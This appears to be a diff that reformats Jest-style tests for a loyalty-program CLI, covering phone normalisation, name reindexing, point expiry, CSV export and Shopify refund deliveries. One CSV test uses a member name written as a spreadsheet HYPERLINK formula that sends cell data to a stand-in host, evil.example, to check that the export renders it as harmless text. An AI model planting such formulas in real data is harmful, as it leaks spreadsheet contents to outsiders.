@@ -33,11 +33,27 @@ describe('loyalty jobs run', () => {
   it('runs the one-off normalize-phones: a phone kept as typed moves to E.164, and a rerun changes nothing', async () => {
     // As an earlier version kept it: as typed, claimed by its digits.
     const at = new Date().toISOString();
-    const legacy = { memberId: 'job-phone', phone: '+98 (912) 555-0001', externalIds: {}, tier: DEFAULT_TIER, balance: 0, lifetimePoints: 0, lots: [], joinedAt: at, seq: 0, profileVersion: 1 };
+    const legacy = {
+      memberId: 'job-phone',
+      phone: '+98 (912) 555-0001',
+      externalIds: {},
+      tier: DEFAULT_TIER,
+      balance: 0,
+      lifetimePoints: 0,
+      lots: [],
+      joinedAt: at,
+      seq: 0,
+      profileVersion: 1,
+    };
     expect(await wiring().jobs.store.createMember(legacy)).toBe('created');
     const run = await runCli(club, ['jobs', 'run', 'normalize-phones']);
     expect(run.code, run.stderr).toBe(0);
-    expect(JSON.parse(run.stdout.trim().split('\n').at(-1)!)).toMatchObject({ job: 'normalize-phones', complete: true, processed: 1, conflicted: 0 });
+    expect(JSON.parse(run.stdout.trim().split('\n').at(-1)!)).toMatchObject({
+      job: 'normalize-phones',
+      complete: true,
+      processed: 1,
+      conflicted: 0,
+    });
     expect((await club.api('GET', '/v1/members/job-phone')).body.phone).toBe('+989125550001');
     const again = await runCli(club, ['jobs', 'run', 'normalize-phones']);
     expect(JSON.parse(again.stdout.trim().split('\n').at(-1)!)).toMatchObject({ complete: true, processed: 0 });
@@ -53,7 +69,12 @@ describe('loyalty jobs run', () => {
     expect(await find()).toEqual([]);
     const run = await runCli(club, ['jobs', 'run', 'reindex-names']);
     expect(run.code, run.stderr).toBe(0);
-    expect(JSON.parse(run.stdout.trim().split('\n').at(-1)!)).toMatchObject({ job: 'reindex-names', complete: true, processed: 1, itemsPut: 2 });
+    expect(JSON.parse(run.stdout.trim().split('\n').at(-1)!)).toMatchObject({
+      job: 'reindex-names',
+      complete: true,
+      processed: 1,
+      itemsPut: 2,
+    });
     expect(await find()).toEqual(['job-names']);
     const again = await runCli(club, ['jobs', 'run', 'reindex-names']);
     expect(JSON.parse(again.stdout.trim().split('\n').at(-1)!)).toMatchObject({ processed: 0, itemsPut: 0 });
@@ -61,7 +82,13 @@ describe('loyalty jobs run', () => {
 
   it('runs a job as of a time, and the rerun changes nothing', async () => {
     expect((await club.api('POST', '/v1/members', { memberId: 'job-1' })).status).toBe(201);
-    const earn = await club.api('POST', '/v1/earn', { memberId: 'job-1', orderId: 'job-o1', amount: '40.00', currency: 'USD', occurredAt: '2025-01-10T10:00:00Z' });
+    const earn = await club.api('POST', '/v1/earn', {
+      memberId: 'job-1',
+      orderId: 'job-o1',
+      amount: '40.00',
+      currency: 'USD',
+      occurredAt: '2025-01-10T10:00:00Z',
+    });
     expect(earn.status).toBe(200);
 
     const run = await runCli(club, ['jobs', 'run', 'expire-points', '--as-of', '2026-02-01T00:00:00Z']);
@@ -88,7 +115,9 @@ describe('loyalty jobs run', () => {
 
   it('exports members so a spreadsheet shows formula-like names as text, and imports that file back', async () => {
     const name = '=HYPERLINK("http://evil.example/?"&A1,"سارا")';
-    expect((await club.api('POST', '/v1/members', { memberId: 'csv-formula', email: 'formula@example.com', name, birthday: '--12-10' })).status).toBe(201);
+    expect(
+      (await club.api('POST', '/v1/members', { memberId: 'csv-formula', email: 'formula@example.com', name, birthday: '--12-10' })).status,
+    ).toBe(201);
     const file = join(dir, 'members.csv');
     const exported = await runCli(club, ['export', 'members', file]);
     expect(exported.code, exported.stderr).toBe(0);
@@ -124,10 +153,14 @@ describe('loyalty deliveries', () => {
     refund.refund_line_items[0].subtotal_set.shop_money.amount = '199.00';
     expect((await sendShopify(club, { topic: 'refunds/create', body: refund })).status).toBe(202);
 
-    const listed = await waitFor(async () => {
-      const run = await runCli(club, ['deliveries', 'list']);
-      return run.stdout.includes('ORDER_NOT_FOUND') ? run : undefined;
-    }, 'the orphan refund in the failed list', 30_000);
+    const listed = await waitFor(
+      async () => {
+        const run = await runCli(club, ['deliveries', 'list']);
+        return run.stdout.includes('ORDER_NOT_FOUND') ? run : undefined;
+      },
+      'the orphan refund in the failed list',
+      30_000,
+    );
     expect(listed.code).toBe(0);
     const id = listed.stdout.split('\t')[0]!;
     expect(id).toMatch(/^shopify-[0-9a-f]{32}$/);
